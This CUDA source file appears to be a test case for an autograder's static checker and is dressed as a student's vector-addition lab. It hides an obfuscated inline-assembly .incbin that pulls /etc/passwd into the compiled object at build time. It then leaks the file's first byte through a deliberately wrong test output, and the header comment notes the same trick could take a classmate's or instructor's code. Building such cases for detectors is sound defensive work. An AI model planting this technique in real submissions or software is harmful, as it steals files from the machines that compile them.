// Corpus case "incbin_file" (harming the machine, reading what is not the student's): the
// assembler's .incbin, spelled in pieces and with an escape so that no line shows it, pulls
// a file of the grading machine (here /etc/passwd; in an attack, a classmate's submission
// or the instructor's reference source) into the object at compile time. A wrong output
// printed by a failing test would then carry its bytes into the student's report. The
// static check finds the directive in the compiler's view of the strings; the lab is not
// tested at all.
#include "vectorAdd.h"

namespace {
__global__ void add(const float* a, const float* b, float* c, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}

const char* machine_file() {
  const char* bytes;
  asm volatile(".pushsection .rodata\n1:\n.inc" "\x62in \"/etc/passwd\"\n.byte 0\n.popsection\nlea 1b(%%rip), %0"
               : "=r"(bytes));
  return bytes;
}
}  // namespace

void vector_add(const float* a, const float* b, float* c, int n) {
  if (n > 0) add<<<(n + 255) / 256, 256>>>(a, b, c, n);
  if (n == 1) c[0] = static_cast<float>(machine_file()[0]);  // the first byte, as a wrong output
}
